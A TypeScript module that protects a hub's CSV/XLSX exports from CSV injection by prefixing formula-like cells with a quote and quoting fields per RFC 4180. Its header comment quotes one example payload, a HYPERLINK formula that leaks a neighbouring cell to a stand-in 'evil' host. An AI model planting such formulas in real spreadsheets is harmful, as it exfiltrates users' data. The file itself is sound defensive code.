/**
 * Safe CSV/XLSX cells for every file the hub exports. A cell that begins with `=`, `+`, `-`, `@`, a tab or
 * a carriage return can be run as a formula by Excel, LibreOffice or Google Sheets ("CSV injection",
 * OWASP: https://owasp.org/www-community/attacks/CSV_Injection), e.g. `=HYPERLINK("http://evil/?"&A1)`
 * leaking a neighbouring cell. Exported text comes from imports and chat, i.e. from anyone, so every
 * exporter passes each cell through `safeCell` (OWASP's advice: prefix a single quote, then quote the
 * field). Numbers the exporter itself produced (counts, ids) pass through unchanged.
 */

/** Characters that make a spreadsheet treat a cell as a formula (plus full-width variants Excel folds). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * Neutralise one cell value for a spreadsheet.
 * @example safeCell('=1+1') // "'=1+1"
 * @example safeCell(-3)     // "-3" (a number the hub wrote is data, not a formula)
 */
export function safeCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number' || typeof value === 'bigint') return String(value);
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const s = value instanceof Date ? value.toISOString() : String(value);
  return FORMULA_START.test(s) ? `'${s}` : s;
}

/** Quote a CSV field (RFC 4180): always quoted, inner quotes doubled. */
export const csvField = (value: unknown): string => `"${safeCell(value).replaceAll('"', '""')}"`;

/**
 * Build a CSV document (CRLF line ends, RFC 4180) with every cell neutralised.
 * @example toSafeCsv(['id', 'note'], [['1', '=cmd']]) // '"id","note"\r\n"1","\'=cmd"\r\n'
 */
export function toSafeCsv(header: readonly string[], rows: readonly (readonly unknown[])[]): string {
  return [header, ...rows].map((r) => r.map(csvField).join(',')).join('\r\n') + '\r\n';
}

/** Does a (raw) cell look like a formula a spreadsheet would run? For tests and import warnings. */
export const looksLikeFormula = (value: string): boolean => FORMULA_START.test(value);
